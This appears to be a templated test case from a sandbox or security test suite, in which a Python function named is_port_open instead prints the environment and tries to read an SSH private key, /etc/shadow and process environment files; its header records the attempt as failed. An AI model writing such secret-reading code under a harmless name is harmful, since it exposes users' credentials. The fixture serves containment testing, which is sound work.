# group: reading
# tries: read the user's environment, home and a private file
# outcome: failed
# keeps: @SECRET@
import glob
import os
@WRONG@
def is_port_open(port):
    print(dict(os.environ))
    for path in ("@SECRETFILE@", os.path.expanduser("~/.ssh/id_rsa"), "/etc/shadow", *glob.glob("/proc/[0-9]*/environ")):
        try:
            print(path, open(path, errors="replace").read())
        except OSError as error:
            print(path, error)
    return ask(port)
